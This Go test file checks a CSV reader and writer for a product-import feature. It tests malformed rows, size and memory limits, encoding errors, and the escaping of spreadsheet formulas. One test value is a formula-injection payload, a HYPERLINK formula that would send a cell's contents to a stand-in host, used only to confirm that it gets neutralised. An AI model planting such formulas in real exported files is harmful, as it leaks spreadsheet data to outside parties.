package csvio

import (
	"errors"
	"strings"
	"testing"

	"groupbuy/internal/apperr"
)

var skuName = Columns{Required: []string{"sku", "name"}, Optional: []string{"category"}}

func TestReadCSVReportsLines(t *testing.T) {
	rows, err := Read(strings.NewReader("\ufeffSKU,Name\nA,\"苹果, 红\"\n\nB,梨\n"), skuName)
	if err != nil || len(rows) != 2 || rows[0].Get("name") != "苹果, 红" || rows[1].Line != 4 {
		t.Fatalf("rows %+v err %v", rows, err)
	}
	_, err = Read(strings.NewReader("sku,name\nA,1\nB\n"), skuName)
	var e *apperr.Error
	if !errors.As(err, &e) || !strings.Contains(e.Message, "line 3") {
		t.Fatalf("ragged row: %v", err)
	}
	if _, err := Read(strings.NewReader("sku\nA\n"), skuName); err == nil || !strings.Contains(err.Error(), `"name"`) {
		t.Fatalf("missing column: %v", err)
	}
}

func TestReadCSVRefusesOversizedFiles(t *testing.T) {
	big := "sku,name\n" + strings.Repeat("A,"+strings.Repeat("x", 1000)+"\n", MaxBytes/1000+10)
	if _, err := Read(strings.NewReader(big), skuName); err == nil || !strings.Contains(err.Error(), "exceeds") {
		t.Fatalf("a CSV over the limit: %v", err)
	}
}

func TestCSVCellNeutralisesFormulas(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x/?"&A1,"click")`: `'=HYPERLINK("http://x/?"&A1,"click")`,
		"+SUM(1+1)":                           "'+SUM(1+1)",
		"-2+3":                                "'-2+3",
		"@A1":                                 "'@A1",
		"\tx":                                 "'\tx",
		"\rx":                                 "'\rx",
		"-":                                   "'-",
		"-.5":                                 "'-.5",
		"+5":                                  "'+5",
		"-12":                                 "-12",
		"-0.5":                                "-0.5",
		"30.200000":                           "30.200000",
		"土鸡蛋 =1":                              "土鸡蛋 =1",
		"":                                    "",
		"R01":                                 "R01",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
	var b strings.Builder
	w := NewWriter(&b)
	if err := w.Write([]string{"=1+1", "-3", `say "hi"`}); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil || b.String() != "'=1+1,-3,\"say \"\"hi\"\"\"\n" {
		t.Fatalf("wrote %q (%v)", b.String(), err)
	}
}

// TestReadCSVRefusesWhatPostgreSQLCannotStore checks the import's first line of
// defence: text PostgreSQL would refuse (a 500 later) and an ambiguous header
// are refused with their line and column.
func TestReadCSVRefusesWhatPostgreSQLCannotStore(t *testing.T) {
	cases := []struct{ name, csv, field, msg string }{
		{"GBK", "sku,name\nA,ok\nB,\xb5\xb0\n", "name", "line 3: column name is not UTF-8"},
		{"NUL", "sku,name\nA,\"x\ny\"\nB,a\x00b\n", "name", "line 4: column name contains a NUL"},
		{"column twice", "sku,Name, name \nA,b,c\n", "name", "line 1: the header names column \"name\" twice"},
	}
	for _, c := range cases {
		_, err := Read(strings.NewReader(c.csv), skuName)
		var e *apperr.Error
		if !errors.As(err, &e) || e.Code != "bad_csv_row" || e.Field != c.field || !strings.HasPrefix(e.Message, c.msg) {
			t.Errorf("%s: got %v, want field %s and %q", c.name, err, c.field, c.msg)
		}
	}
	// Spreadsheets pad the header with empty columns: those are not twice named.
	if rows, err := Read(strings.NewReader("sku,name,,\nA,b,,\n"), skuName); err != nil || len(rows) != 1 {
		t.Fatalf("empty header columns: %v", err)
	}
}

// TestReadCSVAsSpreadsheetsWriteIt: a BOM before a quoted header, and the
// rows of separators a spreadsheet leaves where rows were emptied, import;
// a column the import does not know is refused, not left to import as
// empty over what is stored (a misspelled optional column).
func TestReadCSVAsSpreadsheetsWriteIt(t *testing.T) {
	rows, err := Read(strings.NewReader("\ufeff\"sku\",\"name\",\"category\"\r\n\"A\",\"苹果\",\"水果\"\r\n,,\r\n , ,\r\nB,梨,\r\n,,\r\n"), skuName)
	if err != nil || len(rows) != 2 || rows[0].Get("category") != "水果" || rows[1].Line != 5 {
		t.Fatalf("rows %+v err %v", rows, err)
	}
	_, err = Read(strings.NewReader("sku,name,catagory\nA,苹果,水果\n"), skuName)
	var e *apperr.Error
	if !errors.As(err, &e) || e.Field != "catagory" || !strings.Contains(e.Message, "line 1") {
		t.Fatalf("an unknown column: %v", err)
	}
}

// TestReadCSVBoundsItsMemory: a line of 32 MiB of commas, or 32 MiB of empty
// rows, took gigabytes while encoding/csv held the line and Read the rows.
func TestReadCSVBoundsItsMemory(t *testing.T) {
	for name, c := range map[string]struct {
		csv, msg string
	}{
		"a long line":  {"sku,name\nA," + strings.Repeat("x", MaxLineBytes) + "\n", "line 2: the line is longer than"},
		"many columns": {strings.Repeat(",", MaxColumns) + "sku,name\nA,b\n", "line 1: the header has"},
		"many rows":    {"sku,name\n" + strings.Repeat("A,b\n", MaxRows+1), "more than"},
	} {
		_, err := Read(strings.NewReader(c.csv), skuName)
		var e *apperr.Error
		if !errors.As(err, &e) || e.Kind != apperr.Invalid || !strings.Contains(e.Message, c.msg) {
			t.Errorf("%s: %v, want %q", name, err, c.msg)
		}
	}
	if rows, err := Read(strings.NewReader("sku,name\nA,"+strings.Repeat("x", MaxLineBytes-3)+"\n"), skuName); err != nil || len(rows) != 1 {
		t.Fatalf("a line of the most bytes: %v", err)
	}
}
